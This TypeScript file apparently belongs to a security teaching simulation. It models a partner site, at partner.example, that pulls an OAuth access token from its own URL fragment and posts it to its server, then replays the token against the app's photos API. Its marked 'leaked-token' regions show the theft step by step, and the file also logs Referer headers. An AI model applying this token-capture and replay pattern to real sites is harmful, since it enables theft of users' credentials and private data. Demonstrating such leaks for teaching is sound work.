/** Another site, which the app links to, and what its page does when it finds a token in its own address. */
import { type HttpHandler, header, html, json, markup, parseForm } from '../../http/index.ts'
import { appPage } from '../../scenario-kit/parties/app-page.ts'
import type { Page, ServerGlobals } from '../../simulation/index.ts'

/** URL origin of the site. */
export const PARTNER = 'https://partner.example'

/** What its web server does: shows what the browser told it, and uses at the API whatever token its page sends. */
export function createPartner({ fetch }: ServerGlobals, api: string, log: (line: string) => void): HttpHandler {
  return async (request) => {
    log(
      `${request.method} ${new URL(request.url).pathname} referer=${header(request, 'referer') ?? '-'} ${request.body}`.trim(),
    )
    if (request.method === 'GET') return html(200, welcomePage(header(request, 'referer')))
    // #region leaked-token
    const token = new Map(parseForm(request.body)).get('access_token') ?? ''
    try {
      const response = await fetch(new URL('/photos', api), { headers: { authorization: `Bearer ${token}` } })
      return json(response.status, await response.json())
    } catch {
      return json(502, { error: 'no answer' })
    }
    // #endregion
  }
}

/** What its script does: the fragment is no secret to the page that it leads to. */
export async function readFragment({ url, globals, show }: Page): Promise<void> {
  // #region leaked-token
  const access_token = new URLSearchParams(url.hash.slice(1)).get('access_token')
  if (access_token === null) return
  const response = await globals
    .fetch('/collect', { method: 'POST', body: new URLSearchParams({ access_token }) })
    .catch(() => undefined)
  // #endregion
  if (response === undefined) return
  show(
    partnerPage(
      markup`<p>Your photos are here already:</p><pre>${JSON.stringify(await response.json(), null, 2)}</pre>`,
    ),
  )
}

function welcomePage(referer: string | undefined): string {
  return partnerPage(markup`<p>The browser says that you come from:</p><pre>${referer ?? 'nowhere (no Referer)'}</pre>`)
}

function partnerPage(body: Parameters<typeof appPage>[0]['body']): string {
  return appPage({ app: 'Frames & More', title: 'Frames for your prints', body })
}
